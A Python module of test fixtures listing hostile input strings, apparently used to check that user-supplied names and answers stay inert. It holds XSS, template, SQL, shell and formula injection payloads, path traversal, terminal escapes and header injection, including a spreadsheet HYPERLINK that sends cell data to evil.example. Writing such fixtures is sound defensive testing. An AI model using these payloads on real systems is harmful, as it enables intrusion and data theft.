"""Texts that somebody might try as a name, a tag or an answer: none of them may ever be more than text.

Markup carries `data-hostile` and scripts open a dialog, so whatever of it comes to life is seen.
"""

from collections.abc import Mapping
from typing import Final

# What each script does.
CALL: Final = "alert('hostile')"

SCRIPTS: Final = (
    f"<script data-hostile>{CALL}</script>",
    f"</script><script data-hostile>{CALL}</script>",
    f"<ScRiPt data-hostile>{CALL}</sCrIpT >",
    f"<scr<script>ipt data-hostile>{CALL}</scr</script>ipt>",
    f"<script data-hostile src=//127.0.0.1:1/x.js></script>{CALL}",
    f'<img data-hostile src=x onerror="{CALL}">',
    f"<img/data-hostile/src=x/onerror={CALL}//",
    f"<svg data-hostile onload={CALL}>",
    f"<svg data-hostile><script>{CALL}</script></svg>",
    f"<svg data-hostile><animate onbegin={CALL} attributeName=x dur=1s>",
    f'<body data-hostile onload="{CALL}">',
    f'<iframe data-hostile src="javascript:{CALL}">',
    f"<iframe data-hostile srcdoc='<script>{CALL}</script>'>",
    f"<details data-hostile open ontoggle={CALL}>",
    f"<input data-hostile autofocus onfocus={CALL}>",
    f"<video data-hostile><source onerror={CALL}>",
    f"<math data-hostile><mtext><img src=x onerror={CALL}>",
    f'<noscript><p title="</noscript><img data-hostile src=x onerror={CALL}>">',
    f'<a data-hostile href="javascript:{CALL}">click</a>',
    f'<form data-hostile action="javascript:{CALL}"><button>go</button></form>',
    "<base data-hostile href=//evil.example/>",
    "<meta data-hostile http-equiv=refresh content=0;url=//evil.example/>",
    "<link data-hostile rel=stylesheet href=//evil.example/x.css>",
    "<style data-hostile>*{display:none}</style>",
    "<object data-hostile data=//evil.example/x></object>",
    f'"><script data-hostile>{CALL}</script>',
    f"'><img data-hostile src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" data-hostile="',
    f"' autofocus onfocus='{CALL}' data-hostile='",
    f"*/{CALL}/*",
    f"';{CALL}//",
    f'\\";{CALL};//',
    f"</title><script data-hostile>{CALL}</script>",
    f"</textarea><script data-hostile>{CALL}</script>",
    f"<!--><script data-hostile>{CALL}</script>",
    f"]]><script data-hostile>{CALL}</script>",
    f"javascript:{CALL}",
    f" jAvAsCrIpT&colon;{CALL}",
    f"data:text/html,<script data-hostile>{CALL}</script>",
    f"&lt;script data-hostile&gt;{CALL}&lt;/script&gt;",
    f"%3Cscript data-hostile%3E{CALL}%3C/script%3E",
    "\\u003cscript data-hostile\\u003ealert('hostile')\\u003c/script\\u003e",
    "＜script data-hostile＞alert('hostile')＜/script＞",
    f"[click](javascript:{CALL})",
    f"![x](x){{onerror={CALL}}}",
    "[x]: <javascript:alert('hostile')>",
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "${alert('hostile')}",
    "`${alert('hostile')}`",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${{<%[%'\"}}%\\",
    "@(7*7)",
    "{{=7*7}}",
    "__proto__",
    "constructor",
)
FORMATS: Final = (
    "%s%s%s%n%x%08x",
    "%(password)s",
    "{0.__class__.__init__.__globals__}",
    "{self.__dict__}",
    "{}{}{name}{{}}",
    "$(id) `id` ; id | id && id",
    "${HOME} %PATH% ~root",
    "../../../../etc/passwd",
    "\\\\evil.example\\share",
)
TERMINALS: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H cleared",
    "\x1b]0;another title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred by C1",
    "\x07bell \x08\x08\x08back \x7fdelete",
    "cut\x00off",
    "\x1b[1A\x1b[2Koverwritten",
)
LINES: Final = (
    'one\ntwo {"level":"critical","event":"forged"}',
    "one\r\nSet-Cookie: lb_session=evil\r\n\r\n<script data-hostile>alert('hostile')</script>",
    "one\rover",
    "one\u2028two\u2029three\x85four",
    "12:00:00 critical  forged  who=admin\n12:00:01 info",
)
DIRECTIONS: Final = (
    "invoice\u202egpj.exe",
    "\u2066isolated\u2069 \u202aembedded\u202c",
    "\u200fright \u200eleft \u061carabic",
    "zero\u200bwidth\u200djoiner\u2060word\ufeffmark",
)
LETTERS: Final = (
    "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈👨🏿\u200d💻",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "ﷺ ﷽ 𒐫 ⸻",
    "İıſK ß ﬀ",
    "é vs e\u0301",
)
FORMULAS: Final = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
QUERIES: Final = (
    "' OR '1'='1",
    "'; DROP TABLE service; --",
    '" OR 1=1 --',
    "Robert'); DROP TABLE service;--",
    "%' OR label LIKE '%",
    ":pk $1 ? %s @x",
    "\\'; SELECT pg_sleep(9); --",
    "null",
)
LONG: Final = (
    "x" * 20_000,
    "<b data-hostile>" * 1_000,
    "long name " * 500,
    "W" * 119 + "🙂",
)

FAMILIES: Final[Mapping[str, tuple[str, ...]]] = {
    "script": SCRIPTS,
    "template": TEMPLATES,
    "format": FORMATS,
    "terminal": TERMINALS,
    "lines": LINES,
    "direction": DIRECTIONS,
    "letters": LETTERS,
    "formula": FORMULAS,
    "query": QUERIES,
    "long": LONG,
}
PAYLOADS: Final = tuple(text for family in FAMILIES.values() for text in family)
NAMES: Final = tuple(f"{name}-{number}" for name, family in FAMILIES.items() for number in range(len(family)))
